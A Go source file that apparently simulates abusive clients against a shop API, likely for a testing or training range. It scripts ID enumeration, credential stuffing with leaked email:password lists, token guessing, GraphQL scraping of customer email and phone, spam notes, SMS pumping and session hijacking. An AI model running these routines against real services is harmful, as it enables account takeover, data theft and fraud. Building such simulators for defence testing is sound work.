package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"
)

// attack makes a client of one abusive behaviour with so many calls at least and at most.
func attack(least, most float64, run func(*attacker)) func(*seat) {
	return func(s *seat) {
		a, err := newAttacker(s, least, most)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return
		}
		run(a)
	}
}

func splitPair(pair string) (string, string) {
	email, password, _ := strings.Cut(pair, ":")
	return email, password
}

func from(list []string) func(int) (string, bool) {
	return func(n int) (string, bool) {
		if n >= len(list) {
			return "", false
		}
		return list[n], true
	}
}

// enumerate reads ids one after the other, in blocks that its workers share; UUIDs come from a list.
func enumerate(a *attacker) {
	a.enter(!a.forms["plain"] || a.s.chance(0.5))
	kind, list := "order", "RANGE_IDS"
	if a.s.chance(0.25) {
		kind, list = "customer", "RANGE_CUSTOMER_IDS"
	}
	known := linesOf(list)
	start, err := strconv.Atoi(pick(a.s, known...))
	next := from(shuffled(a.s, window(a.s, known, 2000)))
	if err == nil {
		next = func(n int) (string, bool) { return strconv.Itoa(start + n), true }
		if a.s.chance(0.3) {
			next = func(int) (string, bool) { return strconv.Itoa(start + a.s.number(0, 4000)), true }
		}
	}
	a.each(next, func(id string) { a.mend(a.call("GET", a.s.path(kind, id), nil, "-").status) })
}

// cashOut takes down what each known account holds; some send a little of it to themselves.
func cashOut(a *attacker) {
	var open []string
	for i, line := range linesOf("RANGE_LEAKED") {
		if i%33 == 7 {
			open = append(open, line)
		}
	}
	if a.width > 2 {
		a.width = 2
	}
	buys := a.s.chance(0.5)
	a.each(from(shuffled(a.s, open)), func(pair string) {
		email, password := splitPair(pair)
		token := a.login(email, password)
		if token == "" {
			a.s.pause(time.Second)
			return
		}
		a.call("GET", a.s.path("me", ""), nil, token)
		a.breathe()
		for n, id := range idsOf(a.call("GET", a.s.path("orders", "")+"?limit=50", nil, token)) {
			if n >= 4 || a.isDone() {
				break
			}
			a.call("GET", a.s.path("order", id), nil, token)
		}
		if buys {
			ids := idsOf(a.call("GET", a.s.path("products", "")+"?limit=5", nil, token))
			if len(ids) > 0 {
				item := map[string]any{"productId": pick(a.s, ids...), "qty": 5}
				a.call("POST", a.s.path("orders", ""), map[string]any{"items": []any{item}, "note": "to " + a.s.hex(5)}, token)
			}
		}
	})
}

// guessTokens tries invented credentials of one make at one door.
func guessTokens(a *attacker) {
	door := a.s.path(pick(a.s, "me", "me", "orders", "scimUsers"), "")
	length := pick(a.s, 32, 40, 40, 64)
	stem := a.s.hex(pick(a.s, 0, 0, length-6))
	a.each(func(int) (string, bool) { return stem + a.s.hex(length-len(stem)), true }, func(token string) {
		if got := a.call("GET", door, nil, token); got.status == 429 {
			a.s.pause(a.s.ms(500, 2500))
		}
	})
}

// pumpGraphql asks for many things in one call, or for one thing in many calls.
func pumpGraphql(a *attacker) {
	a.enter(a.s.chance(0.7))
	if a.s.chance(0.7) {
		query := "query IntrospectionQuery { __schema { types { name kind fields { name } } } }"
		a.call("POST", "/graphql", map[string]string{"query": query}, "-")
	}
	size := pick(a.s, 1, 1, 10, 40)
	ids := shuffled(a.s, window(a.s, linesOf("RANGE_IDS"), 4000))
	a.each(func(n int) (string, bool) {
		if (n+1)*size > len(ids) {
			return "", false
		}
		var query strings.Builder
		for i, id := range ids[n*size : (n+1)*size] {
			fmt.Fprintf(&query, `q%d: order(id: "%s") { id total customer { id email phone } } `, i, id)
		}
		return "{ " + query.String() + "}", true
	}, func(query string) { a.mend(a.call("POST", "/graphql", map[string]string{"query": query}, "-").status) })
}

// postSpam puts links under one's own orders, or makes orders for the note's sake.
func postSpam(a *attacker) {
	a.enter(true)
	products := idsOf(a.call("GET", a.s.path("products", "")+"?limit=20", nil, "-"))
	own := idsOf(a.call("GET", a.s.path("orders", "")+"?limit=100", nil, "-"))
	link := "https://" + a.s.hex(5) + ".example/" + pick(a.s, "win", "buy", "ref")
	onOwn := len(own) > 0 && a.s.chance(0.4)
	a.each(func(n int) (string, bool) {
		return fmt.Sprintf("%s %s?%d", pick(a.s, "Look:", "Bonus!", "cheap"), link, n), true
	}, func(note string) {
		if onOwn || len(products) == 0 {
			a.mend(a.call("PATCH", a.s.path("order", pick(a.s, append(own, "1")...)), map[string]string{"note": note}, "-").status)
			return
		}
		item := map[string]any{"productId": pick(a.s, products...), "qty": 1}
		a.mend(a.call("POST", a.s.path("orders", ""), map[string]any{"items": []any{item}, "note": note}, "-").status)
	})
}

// pumpSMS has codes sent to the numbers of a few countries, drawn at random.
func pumpSMS(a *attacker) {
	prefixes := []string{pick(a.s, "+2519", "+9477", "+22507"), pick(a.s, "+9929", "+2637", "+37377")}
	a.each(func(int) (string, bool) {
		return pick(a.s, prefixes...) + strconv.Itoa(a.s.number(1_000_000, 9_999_999)), true
	}, func(phone string) {
		if got := a.call("POST", a.s.path("otpSend", ""), map[string]string{"phone": phone}, ""); got.status == 429 {
			a.s.pause(a.s.ms(300, 2000))
		}
	})
}

// hijack is a session that is a person's until RANGE_TURN, and a thief's from then on.
func hijack(a *attacker) {
	seconds, _ := strconv.ParseFloat(os.Getenv("RANGE_TURN"), 64)
	turn := time.Now().Add(time.Duration(seconds * float64(time.Second)))
	a.rest.SetHeader("User-Agent", pick(a.s, "okhttp/4.12.0", "Shop/9.1 CFNetwork/1490.0.4 Darwin/23.2.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"))
	a.forms["account"] = true
	a.enter(true)
	for time.Now().Before(turn) && !a.isDone() {
		a.useAsOwner(turn)
	}
	a.s.pause(time.Until(turn) + a.s.ms(100, 1500))
	if a.s.chance(0.5) {
		a.rest.SetHeader("User-Agent", pick(a.s, "Go-http-client/1.1", "curl/8.4.0", "PostmanRuntime/7.39.0"))
	}
	if len(a.urls) > 1 && a.s.chance(0.4) {
		a.rest.SetBaseURL(a.urls[1])
	}
	enumerate(a)
}

func (a *attacker) useAsOwner(until time.Time) {
	list := pick(a.s, "orders", "products")
	got := a.call("GET", a.s.path(list, "")+"?limit=20", nil, "-")
	a.mend(got.status)
	for n, id := range idsOf(got) {
		if n >= a.s.number(0, 3) || time.Now().After(until) {
			break
		}
		a.s.pause(min(a.s.ms(400, 3000), time.Until(until)))
		a.call("GET", a.s.path(strings.TrimSuffix(list, "s"), id), nil, "-")
	}
	a.s.pause(min(a.s.ms(600, 5000), time.Until(until)))
}
